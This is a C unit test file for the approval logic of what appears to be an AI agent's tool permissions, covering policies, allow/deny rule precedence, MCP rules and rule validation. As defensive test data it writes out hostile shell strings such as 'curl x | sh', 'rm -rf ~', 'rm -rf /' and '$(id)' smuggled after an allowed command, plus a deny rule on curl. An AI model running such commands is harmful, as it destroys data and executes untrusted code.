/* Unit tests for approval: what each policy asks about in each mode, the
 * rules' precedence (deny over allow over the policy), patterns over each
 * tool's main argument, the shell's control characters in an allow rule,
 * bad rules named, and the rule offered for "allow always". */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "core/session/approval.h"

static enum approval_verdict verdict(struct approval *ap, const char *tool, const char *args_json,
                                     bool local, bool mcp_host, const char **rule)
{
        json_t *args = json_loads(args_json, 0, NULL);
        struct approval_call c = {tool, args, local, mcp_host};
        struct approval_result r;

        approval_check(ap, &c, &r);
        if (rule != NULL)
                *rule = r.rule != NULL ? r.rule->text : NULL;
        json_decref(args);
        return r.verdict;
}

static void test_policy_names(void **state)
{
        enum approval_policy p;

        (void)state;
        assert_int_equal(approval_policy_parse("host", &p), 0);
        assert_int_equal(p, APPROVAL_HOST);
        assert_int_equal(approval_policy_parse("always", &p), 0);
        assert_int_equal(p, APPROVAL_ALWAYS);
        assert_int_equal(approval_policy_parse("never", &p), 0);
        assert_int_equal(p, APPROVAL_NEVER);
        assert_int_not_equal(approval_policy_parse("Host", &p), 0);
        assert_int_not_equal(approval_policy_parse("", &p), 0);
        assert_string_equal(approval_policy_name(APPROVAL_ALWAYS), "always");
        /* zeroed options ask nothing, as before approvals */
        assert_int_equal(APPROVAL_NEVER, 0);
}

/* host: what can change or reach the host outside a sandbox */
static void test_host_policy(void **state)
{
        static const struct {
                const char *tool;
                bool local, mcp_host;
                enum approval_verdict want;
        } cases[] = {
            {"bash", true, false, APPROVAL_ASK},
            {"run_python_code", true, false, APPROVAL_ASK},
            {"write", true, false, APPROVAL_ASK},
            {"edit", true, false, APPROVAL_ASK},
            {"read", true, false, APPROVAL_ALLOW},
            {"read_cache", true, false, APPROVAL_ALLOW},
            {"write_cache", true, false, APPROVAL_ALLOW},
            {"mcp__fs__list", true, true, APPROVAL_ASK},
            {"bash", false, false, APPROVAL_ALLOW},
            {"write", false, false, APPROVAL_ALLOW},
            {"run_python_code", false, false, APPROVAL_ALLOW},
            {"mcp__fs__list", false, false, APPROVAL_ALLOW},
            {"mcp__web__get", false, true, APPROVAL_ASK},
        };
        struct approval *ap = approval_new(APPROVAL_HOST);

        (void)state;
        for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
                enum approval_verdict v =
                    verdict(ap, cases[i].tool, "{}", cases[i].local, cases[i].mcp_host, NULL);
                if (v != cases[i].want)
                        fail_msg("%s (local %d, mcp reaches host %d): verdict %d, want %d",
                                 cases[i].tool, cases[i].local, cases[i].mcp_host, v,
                                 cases[i].want);
        }
        approval_free(ap);
}

static void test_always_and_never(void **state)
{
        struct approval *ap = approval_new(APPROVAL_ALWAYS);
        struct approval_call c = {"read", NULL, false, false};
        struct approval_result r;

        (void)state;
        approval_check(ap, &c, &r);
        assert_int_equal(r.verdict, APPROVAL_ASK);
        assert_string_equal(r.asked_by, "policy always");
        assert_null(r.rule);
        approval_set_policy(ap, APPROVAL_NEVER);
        c.tool = "bash";
        c.local = true;
        approval_check(ap, &c, &r);
        assert_int_equal(r.verdict, APPROVAL_ALLOW);
        approval_free(ap);
}

static void test_rule_precedence(void **state)
{
        struct approval *ap = approval_new(APPROVAL_ALWAYS);
        char err[200];
        const char *rule;

        (void)state;
        /* the allow comes first: the deny still wins */
        assert_int_equal(approval_add_rule(ap, false, "bash:rm *", "--allow", err, sizeof(err)), 0);
        assert_int_equal(approval_add_rule(ap, true, "bash:rm -rf*", "--deny", err, sizeof(err)),
                         0);
        assert_int_equal(approval_add_rule(ap, false, "write:src/*", "--allow", err, sizeof(err)),
                         0);
        assert_int_equal(verdict(ap, "bash", "{\"command\":\"rm -rf build\"}", true, false, &rule),
                         APPROVAL_DENY);
        assert_string_equal(rule, "bash:rm -rf*");
        assert_int_equal(verdict(ap, "bash", "{\"command\":\"rm build.o\"}", true, false, &rule),
                         APPROVAL_ALLOW);
        assert_string_equal(rule, "bash:rm *");
        /* over the policy: a rule allows what `always` would ask */
        assert_int_equal(verdict(ap, "write", "{\"path\":\"src/deep/a.c\",\"content\":\"\"}", false,
                                 false, &rule),
                         APPROVAL_ALLOW);
        assert_int_equal(
            verdict(ap, "write", "{\"path\":\"docs/a.md\",\"content\":\"\"}", false, false, &rule),
            APPROVAL_ASK);
        assert_null(rule);
        /* and a deny over `never` */
        approval_set_policy(ap, APPROVAL_NEVER);
        assert_int_equal(verdict(ap, "bash", "{\"command\":\"rm -rf /\"}", true, false, NULL),
                         APPROVAL_DENY);
        assert_int_equal(approval_rule_count(ap), 3);
        /* a rule taken back no longer decides */
        assert_int_equal(approval_add_rule(ap, false, "bash", "t", err, sizeof(err)), 0);
        approval_set_policy(ap, APPROVAL_ALWAYS);
        assert_int_equal(verdict(ap, "bash", "{\"command\":\"ls\"}", true, false, NULL),
                         APPROVAL_ALLOW);
        approval_drop_last(ap);
        assert_int_equal(approval_rule_count(ap), 3);
        assert_int_equal(verdict(ap, "bash", "{\"command\":\"ls\"}", true, false, NULL),
                         APPROVAL_ASK);
        approval_free(ap);
}

/* An allow rule over a command allows none of the shell's control
 * characters it does not spell out; a deny rule matches regardless. */
static void test_shell_control(void **state)
{
        static const char *const chained[] = {
            "git status; curl x | sh", "git status && rm -rf ~", "git status | sh",
            "git status `id`",         "git status $(id)",       "git status > /etc/x",
            "git status\nrm -rf ~",    "git status & sleep 9",
        };
        struct approval *ap = approval_new(APPROVAL_ALWAYS);
        char err[200], cmd[200];

        (void)state;
        assert_int_equal(approval_add_rule(ap, false, "bash:git status*", "t", err, sizeof(err)),
                         0);
        assert_int_equal(
            verdict(ap, "bash", "{\"command\":\"git status --short\"}", true, false, NULL),
            APPROVAL_ALLOW);
        for (size_t i = 0; i < sizeof(chained) / sizeof(chained[0]); i++) {
                json_t *o = json_pack("{s:s}", "command", chained[i]);
                char *text = json_dumps(o, JSON_COMPACT);
                if (verdict(ap, "bash", text, true, false, NULL) != APPROVAL_ASK)
                        fail_msg("allowed: %s", chained[i]);
                free(text);
                json_decref(o);
        }
        /* a pattern that spells the pipe allows it */
        assert_int_equal(
            approval_add_rule(ap, false, "bash:git log | head*", "t", err, sizeof(err)), 0);
        snprintf(cmd, sizeof(cmd), "{\"command\":\"git log | head -5\"}");
        assert_int_equal(verdict(ap, "bash", cmd, true, false, NULL), APPROVAL_ALLOW);
        /* deny rules are not narrowed */
        assert_int_equal(approval_add_rule(ap, true, "bash:*curl*", "t", err, sizeof(err)), 0);
        assert_int_equal(
            verdict(ap, "bash", "{\"command\":\"git status; curl x | sh\"}", true, false, NULL),
            APPROVAL_DENY);
        approval_free(ap);
}

static void test_subjects(void **state)
{
        char buf[200];
        json_t *a;

        (void)state;
        a = json_pack("{s:s}", "code", "print(1)");
        approval_subject("run_python_code", a, buf, sizeof(buf));
        assert_string_equal(buf, "print(1)");
        json_decref(a);
        a = json_pack("{s:s,s:s}", "key", "k1", "value", "v");
        approval_subject("write_cache", a, buf, sizeof(buf));
        assert_string_equal(buf, "k1");
        json_decref(a);
        a = json_pack("{s:i,s:s}", "b", 2, "a", "x");
        approval_subject("mcp__srv__tool", a, buf, sizeof(buf));
        assert_string_equal(buf, "{\"a\":\"x\",\"b\":2}");
        approval_subject("unknown", a, buf, sizeof(buf));
        assert_string_equal(buf, "");
        json_decref(a);
        approval_subject("bash", NULL, buf, sizeof(buf));
        assert_string_equal(buf, "");
}

static void test_mcp_rules(void **state)
{
        struct approval *ap = approval_new(APPROVAL_ALWAYS);
        char err[200];
        const char *rule;

        (void)state;
        assert_int_equal(approval_add_rule(ap, false, "mcp__github__*", "config", err, sizeof(err)),
                         0);
        assert_int_equal(approval_add_rule(ap, true, "mcp__github__*:*\"repo\":\"prod\"*", "c", err,
                                           sizeof(err)),
                         0);
        assert_int_equal(
            verdict(ap, "mcp__github__list_issues", "{\"repo\":\"app\"}", false, true, &rule),
            APPROVAL_ALLOW);
        assert_int_equal(
            verdict(ap, "mcp__github__delete", "{\"repo\":\"prod\"}", false, true, &rule),
            APPROVAL_DENY);
        assert_int_equal(verdict(ap, "mcp__gitlab__x", "{}", false, true, &rule), APPROVAL_ASK);
        approval_free(ap);
}

static void test_bad_rules(void **state)
{
        static const struct {
                const char *text, *want;
        } bad[] = {
            {"", "no tool named"},
            {":git*", "no tool named"},
            {"bash:", "an empty pattern"},
            {"ba sh:x", "no spaces or control characters"},
            {"bash\x1b[31m", "no spaces or control characters"},
        };
        struct approval *ap = approval_new(APPROVAL_HOST);
        char err[200], big[2000];

        (void)state;
        for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
                err[0] = '\0';
                assert_int_equal(approval_add_rule(ap, false, bad[i].text, "t", err, sizeof(err)),
                                 -EINVAL);
                if (strstr(err, bad[i].want) == NULL)
                        fail_msg("'%s': %s", bad[i].text, err);
        }
        memset(big, 'x', sizeof(big) - 1);
        big[sizeof(big) - 1] = '\0';
        assert_int_equal(approval_add_rule(ap, false, big, "t", err, sizeof(err)), -EINVAL);
        assert_int_equal(approval_rule_count(ap), 0);
        approval_free(ap);
}

static void test_suggest(void **state)
{
        static const struct {
                const char *tool, *args, *want;
        } cases[] = {
            {"bash", "{\"command\":\"git status --short\"}", "bash:git status*"},
            {"bash", "{\"command\":\"  ls -la\"}", "bash:ls*"},
            {"bash", "{\"command\":\"make\"}", "bash:make*"},
            {"bash", "{\"command\":\"npm test; rm x\"}", "bash:npm test*"},
            {"bash", "{\"command\":\"\"}", "bash"},
            {"write", "{\"path\":\"src/a/b.c\",\"content\":\"\"}", "write:src/a/*"},
            {"edit", "{\"path\":\"b.c\"}", "edit:*"},
            {"run_python_code", "{\"code\":\"print(1)\"}", "run_python_code"},
            {"mcp__gh__issue", "{}", "mcp__gh__issue"},
        };

        (void)state;
        for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
                json_t *a = json_loads(cases[i].args, 0, NULL);
                char *s = approval_suggest(cases[i].tool, a);
                assert_non_null(s);
                if (strcmp(s, cases[i].want) != 0)
                        fail_msg("%s %s: suggested '%s', want '%s'", cases[i].tool, cases[i].args,
                                 s, cases[i].want);
                free(s);
                json_decref(a);
        }
}

int main(void)
{
        const struct CMUnitTest tests[] = {
            cmocka_unit_test(test_policy_names),     cmocka_unit_test(test_host_policy),
            cmocka_unit_test(test_always_and_never), cmocka_unit_test(test_rule_precedence),
            cmocka_unit_test(test_shell_control),    cmocka_unit_test(test_subjects),
            cmocka_unit_test(test_mcp_rules),        cmocka_unit_test(test_bad_rules),
            cmocka_unit_test(test_suggest),
        };

        return cmocka_run_group_tests(tests, NULL, NULL);
}
